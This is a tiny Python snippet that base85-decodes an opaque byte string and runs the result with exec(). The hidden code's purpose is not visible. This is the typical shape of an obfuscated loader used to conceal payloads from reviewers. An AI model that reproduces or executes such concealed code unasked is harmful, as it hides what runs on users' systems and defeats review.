import base64
exec(base64.b85decode(b'X>D+Ca&#bXa|&;BE^~QvbY*QQB4c%OY#=RjAZT=Sa5^t9Wp-(7E@gOOZE$R5FL)q)AaiIUDGC'))
